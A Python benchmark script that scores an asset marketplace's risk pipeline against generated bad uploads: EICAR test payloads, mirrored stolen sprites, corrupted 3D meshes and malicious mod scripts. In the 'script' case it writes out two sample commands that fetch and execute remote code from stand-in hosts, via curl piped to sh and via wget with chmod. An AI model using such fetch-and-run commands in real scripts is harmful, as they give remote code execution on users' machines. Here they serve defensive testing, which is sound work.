"""Risk score ROC-AUC: generated bad uploads against the clean shared assets.

A platform in a temporary folder runs the quality pipeline as uploads do:
``integrity``, ``completeness``, ``scan``, the ``duplicates`` and ``models3d``
steps when they are installed, and ``scores`` (the steps they require run
too). Moderation and tagging are left out (their text and image models are
not what this measures); their signals are absent in every breakdown.

Data: every image of ``arcade-kenney-sprites`` and every GLB of
``kenney-city-builder-glb`` is one clean asset of one of six artist sellers
(by folder). Bad uploads, each by a new seller:

* ``malware``: a zip holding a ClamAV test payload (``clamav-testfiles``
  sample or EICAR) beside a readme;
* ``stolen``: a horizontally flipped copy of another seller's sprite;
* ``broken_mesh``: a city GLB truncated, with NaN vertices, or with a
  corrupt JSON chunk;
* ``script``: a Lua or Python script in a zip that downloads and executes.

Two phases with different assets and generated seeds: the first fills the
catalog and trains the anomaly model through the gated pipeline
(``train.anomaly``); the second is scored with that champion and measured:
``risk.roc_auc`` (bad = 1, clean = 0), per kind, and each signal alone.

Run: ``.venv/bin/python benchmarks/risk.py [--quick]``
"""

from __future__ import annotations

import argparse
import importlib
import io
import json
import os
import pkgutil
import random
import struct
import tempfile
import time
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image, ImageOps
from sklearn.metrics import roc_auc_score

from agora.catalog import Upload
from agora.config import Settings
from agora.errors import AgoraError
from agora.pipeline.base import Step
from agora.pipeline.registry import discover_steps
from agora.pipeline.runner import PipelineRunner
from agora.quality.rescan import QUALITY_STEPS, quality_steps
from agora.quality.risk.tasks import train_anomaly_task
from agora.runtime import Platform
from agora.storage.tables import ProcessingResultRow

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT.parent / "shared" / "data"
SPRITES = DATA / "arcade-kenney-sprites"
CITY = DATA / "kenney-city-builder-glb" / "models"
TESTFILES = Path("/usr/share/clamav-testfiles")
OUT = ROOT / "benchmarks" / "results" / "risk.json"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
KINDS = ("malware", "stolen", "broken_mesh", "script")
REFUSED_AT_UPLOAD: list[str] = []
OPTIONAL = ("agora.quality.duplicates", "agora.quality.models3d")


def optional_step_paths() -> list[str]:
    """``module:Class`` of the duplicates and models3d steps, where installed."""
    found: dict[str, str] = {}
    for package in OPTIONAL:
        try:
            mod = importlib.import_module(package)
        except ImportError:
            continue
        names = [package] + [i.name for i in pkgutil.walk_packages(mod.__path__, f"{package}.")]
        for name in names:
            for obj in vars(importlib.import_module(name)).values():
                step = getattr(obj, "name", None)
                if isinstance(obj, type) and issubclass(obj, Step) and step in QUALITY_STEPS:
                    found.setdefault(step, f"{obj.__module__}:{obj.__name__}")
    return sorted(found.values())


def _zip(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


def _png(image: Image.Image) -> bytes:
    buf = io.BytesIO()
    image.save(buf, "PNG")
    return buf.getvalue()


def _meta(title: str, seller: str, rng: random.Random, category: str) -> dict[str, Any]:
    words = title.replace("_", " ").replace("-", " ")
    return {
        "title": f"{words} game asset",
        "seller_id": seller,
        "description": f"{words} for 2D and 3D games. " * rng.randint(2, 6),
        "tags": [category, "game", "kenney", *words.split()[:2]],
        "category": category,
        "price": round(rng.uniform(0.5, 20), 2),
        "currency": "USD",
    }


def clean_uploads(files: list[Path]) -> list[tuple[dict[str, Any], list[Upload], list[Upload]]]:
    rng = random.Random(7)
    out = []
    for path in files:
        seller = f"artist-{zlib.crc32(path.parent.name.encode()) % 6}"
        data = path.read_bytes()
        if path.suffix == ".glb":
            meta = _meta(path.stem, seller, rng, "3d-models")
            cover = SPRITES / "images" / "items" / "coinGold.png"
            out.append((meta, [Upload(path.name, data)], [Upload("cover.png", cover.read_bytes())]))
        else:
            meta = _meta(path.stem, seller, rng, path.parent.name)
            out.append((meta, [Upload(path.name, data)], [Upload(path.name, data)]))
    return out


def _broken_glb(data: bytes, how: int) -> bytes:
    if how == 0:
        return data[: int(len(data) * 0.6)]
    if how == 1:  # every float of the binary chunk becomes NaN
        json_len = struct.unpack_from("<I", data, 12)[0]
        start = 20 + json_len + 8
        body = bytearray(data)
        nan = struct.pack("<f", float("nan"))
        for at in range(start, len(body) - 3, 4):
            body[at : at + 4] = nan
        return bytes(body)
    body = bytearray(data)
    body[24:40] = b"{{{{{{{{{{{{{{{{"  # the JSON chunk no longer parses
    return bytes(body)


def bad_uploads(
    kind: str, n: int, seed: int, victims: list[Path]
) -> list[tuple[dict[str, Any], list[Upload], list[Upload]]]:
    rng = random.Random(seed)
    payloads = [("eicar.com", EICAR)] + [
        (p.name, p.read_bytes()) for p in sorted(TESTFILES.iterdir()) if p.is_file()
    ]
    glbs = sorted(CITY.glob("*.glb"))
    out = []
    for i in range(n):
        seller = f"new-{kind}-{seed}-{i}"
        victim = rng.choice(victims)
        cover = Upload("cover.png", victim.read_bytes())
        if kind == "malware":
            name, payload = payloads[rng.randrange(len(payloads))]
            files = [Upload("pack.zip", _zip({"readme.txt": b"sprites", f"bin/{name}": payload}))]
        elif kind == "stolen":
            flipped = _png(ImageOps.mirror(Image.open(victim).convert("RGBA")))
            files, cover = [Upload(victim.name, flipped)], Upload(victim.name, flipped)
        elif kind == "broken_mesh":
            glb = rng.choice(glbs)
            files = [Upload(glb.name, _broken_glb(glb.read_bytes(), i % 3))]
        else:
            lua = b'os.execute("curl -s http://cdn.example.net/u.sh | sh")\n'
            py = b'import os\nos.system("wget -q http://x.example/p -O p && chmod +x p")\n'
            script = lua if i % 2 else py
            name = "init.lua" if i % 2 else "setup.py"
            files = [Upload("mod.zip", _zip({f"scripts/{name}": script, "readme.txt": b"mod"}))]
        meta = _meta(f"{victim.stem} pack {i}", seller, rng, victim.parent.name)
        out.append((meta, files, [cover]))
    return out


def upload_and_run(
    platform: Platform, runner: PipelineRunner, uploads: list, label: str
) -> list[str]:
    ids: list[str] = []
    pairs: list[tuple[str, str]] = []
    for meta, files, images in uploads:
        platform.people.upsert_seller(meta["seller_id"], {"name": meta["seller_id"]}, "bench")
        try:
            created = platform.assets.create(meta, files, images, "bench", publish=False)
        except AgoraError as exc:  # refused at upload (a 4xx): never stored, never scored
            REFUSED_AT_UPLOAD.append(f"{label}: {exc}"[:200])
            continue
        ids.append(created.asset_id)
        pairs.append((created.asset_id, created.job_id))
    t0 = time.perf_counter()
    for start in range(0, len(pairs), 32):
        errors = runner.run_many(pairs[start : start + 32])
        failed = [j for j, e in errors.items() if e is not None]
        assert not failed, f"pipeline failed: {failed[:3]}"
    print(f"{label}: {len(pairs)} assets in {time.perf_counter() - t0:.0f} s")
    return ids


def scores_of(platform: Platform, ids: list[str]) -> dict[str, dict[str, Any]]:
    with platform.db.session() as s:
        rows = (
            s.query(ProcessingResultRow)
            .filter(ProcessingResultRow.step == "scores", ProcessingResultRow.asset_id.in_(ids))
            .all()
        )
        return {r.asset_id: r.output for r in rows}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--quick", action="store_true")
    args = parser.parse_args()
    sprites = sorted(p for p in SPRITES.rglob("*.png") if p.stat().st_size < 2_000_000)
    glbs = sorted(CITY.glob("*.glb"))
    clean = sprites + glbs
    random.Random(3).shuffle(clean)
    if args.quick:
        clean = clean[:160]
    train_clean, eval_clean = clean[::2], clean[1::2]
    n_bad = 4 if args.quick else 12

    folder = Path(tempfile.mkdtemp(prefix="agora-risk-bench-"))
    extra = ["agora.quality.scan.step:ScanStep", "agora.quality.risk.step:ScoresStep"]
    optional = optional_step_paths()
    settings = Settings.load(
        data_dir=folder, scan={"databases": []}, pipeline={"extra_steps": extra + optional}
    )
    platform = Platform.build(settings)

    def build_runner() -> PipelineRunner:
        steps = quality_steps(discover_steps(settings.pipeline, platform.step_services()))
        return PipelineRunner(
            steps,
            db=platform.db,
            jobs=platform.jobs,
            audit=platform.audit,
            bus=platform.bus,
            blobs=platform.blobs,
            settings=settings,
        )

    runner = build_runner()
    names = [s.name for s in runner.steps]
    print("steps:", ", ".join(names))

    victims_train = [p for p in train_clean if p.suffix == ".png"]
    upload_and_run(platform, runner, clean_uploads(train_clean), "train clean")
    train_bad = [u for k in KINDS for u in bad_uploads(k, n_bad, 1, victims_train)]
    upload_and_run(platform, runner, train_bad, "train bad")
    try:
        trained = train_anomaly_task(platform, holdout_share=0.3, reason="benchmark")
        anomaly = {
            "decision": trained["decision"],
            "model": trained["model"],
            **{f"train.{k}": v for k, v in trained["gate"]["candidate"].items()},
        }
    except Exception as exc:  # noqa: BLE001 (reported, the run goes on without the signal)
        anomaly = {"error": str(exc)}
    print("anomaly model:", anomaly)
    # Fresh steps: the scores step reads the new champion now, not at its next
    # refresh (every few minutes in a long-running worker).
    runner = build_runner()

    victims_eval = [p for p in eval_clean if p.suffix == ".png"]
    clean_ids = upload_and_run(platform, runner, clean_uploads(eval_clean), "eval clean")
    bad_ids: dict[str, list[str]] = {}
    for kind in KINDS:
        bad_ids[kind] = upload_and_run(
            platform, runner, bad_uploads(kind, n_bad, 2, victims_eval), f"eval {kind}"
        )
    every_bad = [a for ids in bad_ids.values() for a in ids]
    scored = scores_of(platform, clean_ids + every_bad)

    def auc(bad: list[str], value: Any) -> float:
        y = [0] * len(clean_ids) + [1] * len(bad)
        s = [value(scored[a]) for a in clean_ids + bad]
        return round(float(roc_auc_score(y, s)), 4)

    risk = lambda out: out["risk"]["score"]  # noqa: E731
    results: dict[str, Any] = {
        "risk.roc_auc": auc(every_bad, risk),
        **{f"risk.roc_auc.{k}": auc(v, risk) for k, v in bad_ids.items()},
    }
    signals = sorted(
        {line["signal"] for out in scored.values() for line in out["risk"]["breakdown"]}
    )
    for signal in signals:

        def value(out: dict[str, Any], sig: str = signal) -> float:
            line = next(x for x in out["risk"]["breakdown"] if x["signal"] == sig)
            return float(line["value"]) if line["value"] is not None else 0.0

        results[f"signal_alone.roc_auc.{signal}"] = auc(every_bad, value)
    results |= {
        "risk.mean.clean": round(float(np.mean([risk(scored[a]) for a in clean_ids])), 4),
        "risk.mean.bad": round(float(np.mean([risk(scored[a]) for a in every_bad])), 4),
        "quality.mean.clean": round(
            float(np.mean([scored[a]["quality"]["score"] or 0 for a in clean_ids])), 4
        ),
        "quality.mean.bad": round(
            float(np.mean([scored[a]["quality"]["score"] or 0 for a in every_bad])), 4
        ),
        "eval.clean": len(clean_ids),
        "eval.bad": len(every_bad),
        "steps": names,
        "absent_steps": [s for s in ("duplicates", "models3d", "moderation") if s not in names],
        "anomaly": anomaly,
        "refused_at_upload": REFUSED_AT_UPLOAD,
        "quick": args.quick,
        "loadavg": os.getloadavg()[0],
    }
    platform.close()
    print(f"{'figure':40} value")
    for key, val in results.items():
        if isinstance(val, float | int) and not isinstance(val, bool):
            print(f"{key:40} {val}")
    OUT.parent.mkdir(parents=True, exist_ok=True)
    OUT.write_text(json.dumps(results, indent=2) + "\n")


if __name__ == "__main__":
    main()
